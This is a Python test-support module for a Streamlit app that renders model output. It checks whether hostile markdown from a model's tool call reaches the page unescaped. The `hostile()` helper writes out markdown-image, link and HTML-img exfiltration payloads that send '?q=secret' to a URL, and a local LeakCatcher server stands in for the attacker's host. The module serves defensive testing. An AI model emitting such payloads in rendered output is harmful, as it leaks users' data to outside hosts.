"""Markdown that would make the browser fetch an attacker's URL, and the means to catch it: a local
HTTP server that records every request it gets (`LeakCatcher`), the hostile text pointing at it,
a model's streamed tool call carrying that text, and the markdown fields of the deltas a page sends
(where such text must never arrive unescaped).
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from google.protobuf.message import Message as Proto
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg

# Fields the browser draws as markdown (st.markdown, captions, alerts, headings, toasts, widget
# labels and help, expander / tab / popover labels, image captions, progress text), and elements
# whose `body` it draws as text (st.code, st.text, st.html's escaped markup).
MARKDOWN_FIELDS = {"body", "label", "help", "caption", "captions", "text"}
TEXT_ELEMENTS = {"code", "text", "html", "json"}


def hostile(url: str) -> str:
    """An image, a link, an HTML image and an autolink to `url`: any of them drawn as markdown would
    fetch it (or offer it as a link). Shown literally, the text reads exactly like this."""
    return f"![x]({url}?q=secret) [c]({url}) <img src=\"{url}\"> {url}"


class LeakCatcher:
    """A local HTTP server standing for the attacker's host: every request's path is kept."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.hit = threading.Event()
        catcher = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                catcher.paths.append(self.path)
                catcher.hit.set()
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", "0")
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/leak"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> LeakCatcher:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


def _strings(proto: Proto, path: str) -> Iterator[tuple[str, str]]:
    for descriptor, value in proto.ListFields():
        name = f"{path}.{descriptor.name}"
        values = value if descriptor.is_repeated else [value]
        for item in values:
            if isinstance(item, Proto):
                yield from _strings(item, name)
            elif isinstance(item, str) and descriptor.name in MARKDOWN_FIELDS:
                yield name, item


def markdown_fields(messages: list[ForwardMsg]) -> Iterator[tuple[str, str]]:
    """(where, text) for every string the browser draws as markdown in these deltas."""
    for msg in messages:
        if not msg.HasField("delta"):
            continue
        kind = msg.delta.WhichOneof("type")
        if kind == "new_element":
            element = msg.delta.new_element
            element_kind = element.WhichOneof("type")
            if element_kind and element_kind not in TEXT_ELEMENTS:
                yield from _strings(getattr(element, element_kind), element_kind)
        elif kind == "add_block":
            yield from _strings(msg.delta.add_block, "block")


# A prompt file whose name, description and evaluator name are `{text}` (format it with a JSON string).
PROMPT_FILE = """\
name: {text}
description: {text}
modelParameters:
  maxTokens: 4
  temperature: 0
messages:
  - role: user
    content: Say {{{{word}}}}.
testData:
  - word: hi
evaluators:
  - name: {text}
    string:
      contains: hi
"""
